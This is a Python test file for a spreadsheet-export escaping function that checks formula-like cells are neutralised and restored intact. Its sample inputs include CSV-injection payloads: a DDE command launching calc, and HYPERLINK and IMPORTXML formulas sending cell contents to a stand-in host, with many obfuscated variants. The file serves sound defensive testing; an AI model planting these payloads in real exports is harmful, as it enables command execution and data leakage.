"""A cell that a spreadsheet would run is inert in the file, and itself again when it is read back (A22)."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from claims.export import escape, format_named, unescape

DANGEROUS = {
    "a sum": "=1+1",
    "a command": "=cmd|' /C calc'!A0",
    "a link that tells": '=HYPERLINK("http://x.example/?"&A1,"see")',
    "an import": "=IMPORTXML(CONCAT('http://x.example/',A1),'//a')",
    "plus": "+1+1",
    "minus": "-1+1",
    "minus and a command": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "tab and a word": "\tword",
    "carriage return": "\r=1+1",
    "line end": "\n=1+1",
    "space": " =1+1",
    "spaces and tabs": "  \t =1+1",
    "no-break space": "\xa0=1+1",
    "a quotation mark": '"=1+1',
    "quotation marks": '""=1+1',
    "an apostrophe": "'=1+1",
    "a curly one": "“=1+1",
    "a separator": ";=1+1",
    "a comma": ",=1+1",
    "a wide equals sign": "＝1+1",
    "a wide plus": "＋1",
    "a wide minus": "－1",
    "a wide at": "＠SUM(1)",
    "a byte order mark": "\ufeff=1+1",
    "a zero-width space": "\u200b=1+1",
    "a direction mark": "\u202e=1+1",
    "a true minus": "\u22121+1",
}
LIVE = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("cell", DANGEROUS.values(), ids=DANGEROUS)
def test_a22_a_cell_that_would_run_is_inert_and_comes_back(cell):
    inert = escape(cell)

    assert inert == f"'{cell}"
    assert unescape(inert) == cell


@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_a22_no_cell_of_a_written_table_begins_like_a_formula(form):
    pieces = format_named(form).write(["cell"], ({"cell": cell} for cell in DANGEROUS.values()))
    text = b"".join(pieces).decode()
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""), delimiter="," if form == "csv" else "\t")][1:]

    assert not [cell for cell in cells if cell.startswith(LIVE)]
    assert [unescape(cell) for cell in cells] == list(DANGEROUS.values())


@pytest.mark.parametrize("cell", ["", "Qatar", "a = b", "2024-02-29", "“It is so,” he said", "'quoted'", "–", "1-2"])
def test_an_ordinary_cell_is_left_as_it_is(cell):
    assert escape(cell) == unescape(cell) == cell


@pytest.mark.parametrize("cell", ["-", "-2", "- 2", "+2"])
def test_minus_signs_and_negative_numbers_as_text_come_back(cell):
    assert unescape(escape(cell)) == cell


def test_a_number_of_ours_stays_a_number():
    assert b"".join(format_named("csv").write(["polarity"], [{"polarity": -2}])) == b"polarity\r\n-2\r\n"


AWKWARD = st.text(st.one_of(st.sampled_from("'\"=+-@\t\r\n ,;a＝－\ufeff"), st.characters(exclude_categories=["Cs"])))


@given(AWKWARD)
@example("''=")
@example("'")
@example("' '=1")
def test_every_text_comes_back(cell):
    assert unescape(escape(cell)) == cell


@given(AWKWARD)
def test_no_escaped_text_begins_like_a_formula(cell):
    assert not escape(cell).startswith(LIVE)


@given(AWKWARD, AWKWARD)
def test_two_texts_never_become_one(one, other):
    assert one == other or escape(one) != escape(other)
